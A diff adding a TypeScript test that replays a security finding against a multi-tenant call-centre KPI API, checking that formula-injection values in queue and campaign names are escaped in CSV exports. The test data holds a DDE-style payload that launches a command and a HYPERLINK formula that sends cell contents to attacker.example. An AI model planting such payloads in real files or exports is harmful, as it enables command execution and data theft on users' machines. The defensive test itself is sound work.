@@ -1,0 +1,84 @@
+/**
+ * The findings of an independent attack on a running API (two tenants, acme and globex, each
+ * with its own ingest key and users), each replayed with the request that showed it.
+ */
+import { defaultTenantSettings } from '@mieruka/contracts';
+import { TenantDirectory } from '../../apps/api/src/config/tenant-directory';
+import { addUsers, startTestApp, type TestApp } from '../support/test-app';
+
+const AT = '2026-11-24T10:07:00.000+09:00';
+const ACME_KEY = 'acme-key-0123456789abcdef';
+const GLOBEX_KEY = 'globex-key-0123456789abcdef';
+const PASSWORD = 'attack-test-password-0123';
+
+const tenants = () =>
+  new TenantDirectory([defaultTenantSettings('acme'), defaultTenantSettings('globex')]);
+
+describe('findings of the attack on two tenants', () => {
+  let app: TestApp;
+  let users: Record<'acme-manager', string>;
+
+  beforeAll(async () => {
+    app = await startTestApp({
+      at: AT,
+      tenants: tenants(),
+      env: { MIERUKA_INGEST_KEYS: `acme:${ACME_KEY},globex:${GLOBEX_KEY}` },
+    });
+    users = await addUsers(app, PASSWORD, [['acme-manager', 'acme', 'manager']]);
+  });
+  afterAll(() => app?.close());
+
+  const post = (key: string, events: readonly Record<string, unknown>[]) =>
+    fetch(`${app.url}/api/v1/events`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${key}`, 'content-type': 'application/x-ndjson' },
+      body: events.map((e) => JSON.stringify(e)).join('\n'),
+    });
+  const minutesBefore = (minutes: number) =>
+    new Date(Date.parse(AT) - minutes * 60_000).toISOString();
+
+  it('#3: a name a spreadsheet would run as a formula comes out of a CSV as text', async () => {
+    const names = ["=cmd|' /C calc'!A0", '+1+1', '@SUM(1)', '-1+2'];
+    const events = names.map((queue, i) => ({
+      id: `formula-${i}`,
+      tenant: 'acme',
+      type: 'call.offered',
+      occurredAt: minutesBefore(5),
+      source: 'attack',
+      callId: `formula-call-${i}`,
+      direction: 'inbound',
+      queue,
+    }));
+    events.push({
+      id: 'formula-dial',
+      tenant: 'acme',
+      type: 'call.dialed',
+      occurredAt: minutesBefore(5),
+      source: 'attack',
+      callId: 'formula-dial',
+      direction: 'outbound',
+      agentId: 'a1',
+      campaign: '=HYPERLINK("http://attacker.example/?"&A1,"click")',
+    } as unknown as (typeof events)[number]);
+    expect((await post(ACME_KEY, events)).status).toBe(200);
+
+    for (const groupBy of ['queue', 'campaign']) {
+      const response = await fetch(
+        `${app.url}/api/v1/kpis?groupBy=${groupBy}&format=csv&tenant=acme`,
+        { headers: { authorization: `Bearer ${users['acme-manager']}` } },
+      );
+      expect(response.status).toBe(200);
+      const rows = (await response.text())
+        .replace(/^\uFEFF/, '')
+        .trimEnd()
+        .split('\r\n');
+      const keys = rows.slice(1).map((row) => /^"?([^,]*)/.exec(row)![1]!);
+      expect(keys.length).toBeGreaterThan(0);
+      // A cell a spreadsheet evaluates starts with = + - @ (after the quote, if quoted).
+      expect(keys.filter((key) => /^[=+\-@\t\r]/.test(key))).toEqual([]);
+      expect(keys.filter((key) => key.startsWith("'")).length).toBe(
+        groupBy === 'queue' ? names.length : 1,
+      );
+    }
+  });
+});
